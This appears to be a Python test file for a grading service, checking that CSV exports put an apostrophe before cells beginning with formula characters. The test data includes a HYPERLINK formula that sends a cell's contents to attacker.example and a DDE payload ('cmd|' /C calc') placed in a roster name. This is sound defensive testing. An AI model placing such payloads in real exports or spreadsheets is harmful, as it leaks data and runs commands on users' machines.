"""No CSV the service writes carries a formula to the instructor's spreadsheet: a cell that
begins with = + - @, a tab or a carriage return is written with a ' before it."""

from __future__ import annotations

import csv
import io
import json
import time

from grader.services.csvfiles import cell
from tests.service.factories import make_user
from tests.web.conftest import log_in, new_student

HYPERLINK = '=HYPERLINK("http://attacker.example/?"&A1,"Click")'
BATCH_TIMEOUT = 30.0


def rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def test_formula_cells_are_escaped_and_numbers_kept():
    for text in (HYPERLINK, "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "=1"):
        assert cell(text) == "'" + text
    for value in ("-20", "+1", "-0.5", "-1e-3", "0.2", "[1, 2]", "", None, -3, 2.5, "a=b"):
        assert cell(value) == value


def test_a_formula_answer_reaches_the_batch_results_csv_escaped(app):
    teacher = make_user(app, "instructor")
    answers = {"grad.e3": HYPERLINK, "grad.e2": "-10"}
    line = json.dumps(
        {
            "id": "x1",
            "student": "mallory@test.example",
            "exercise": "single-weight",
            "answers": answers,
        }
    )
    reply = teacher.post(
        f"/batches?course={teacher.course}", data=line, content_type="application/x-ndjson"
    )
    assert reply.status_code == 202, reply.get_data(as_text=True)
    batch = reply.get_json()["id"]
    deadline = time.monotonic() + BATCH_TIMEOUT
    while teacher.get(f"/batches/{batch}").get_json()["status"] not in ("done", "failed"):
        assert time.monotonic() < deadline
        time.sleep(0.05)
    text = teacher.get(f"/batches/{batch}/results?format=csv").get_data(as_text=True)
    (row,) = rows(text)
    assert row["grad.e3"] == "'" + HYPERLINK
    assert row["grad.e2"] == "-10"


def test_a_formula_name_reaches_the_gradebook_csv_escaped(app):
    email, course = new_student(app, role="instructor")
    instructor = log_in(app, email, course)
    roster = f"email,name\nmallory-{time.time_ns()}@test.example,@SUM(1+1)*cmd|' /C calc'!A0\n"
    page = f"/instructor/courses/{course}/roster"
    reply = instructor.client.post(page, data={"csv": roster, "csrf_token": instructor.csrf(page)})
    assert reply.status_code == 200
    text = instructor.get(f"/api/v1/courses/{course}/gradebook.csv").get_data(as_text=True)
    (row,) = [r for r in rows(text) if r["student"].startswith("mallory-")]
    assert row["name"] == "'@SUM(1+1)*cmd|' /C calc'!A0"


def test_every_csv_the_service_writes_goes_through_the_safe_writer(repo_root):
    """A new CSV export is protected by default: nothing but grader/services/csvfiles.py makes
    a csv writer."""
    makers = [
        path.relative_to(repo_root).as_posix()
        for path in (repo_root / "grader").rglob("*.py")
        if "csv.writer(" in path.read_text() or "csv.DictWriter(" in path.read_text()
    ]
    assert makers == ["grader/services/csvfiles.py"]
